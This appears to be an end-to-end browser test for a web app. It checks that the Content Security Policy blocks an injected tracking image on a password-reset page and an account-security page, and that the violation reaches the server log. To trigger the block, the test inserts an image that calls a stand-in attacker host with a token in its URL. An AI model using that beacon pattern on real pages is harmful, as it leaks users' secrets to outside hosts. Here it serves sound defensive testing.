/** What a policy has stopped reaches the log, wherever it was stopped. */
import { violationsIn } from '../support/csp-reports'
import { expect, test } from './support/test'

test('when the policy stops something on a page, static or of a user, the browser reports it and the log has it', async ({
  app,
  page,
  signedIn: _,
  violations,
}) => {
  for (const path of ['/reset-password', '/account/security']) {
    await page.goto(path)
    await page.evaluate(() => {
      const image = document.createElement('img')
      image.src = 'https://evil.invalid/pixel.png?token=secret'
      document.body.append(image)
    })
    const ours = () => violationsIn(app.output).filter((line) => line.page === app.url + path)
    await expect.poll(ours).toEqual([
      expect.objectContaining({
        directive: 'img-src',
        blocked: 'https://evil.invalid/pixel.png',
        ip: '127.0.0.0/24',
      }),
    ])
  }
  // The fixture that watches every page of every test has seen both.
  await expect.poll(() => violations).toHaveLength(2)
  violations.length = 0
})
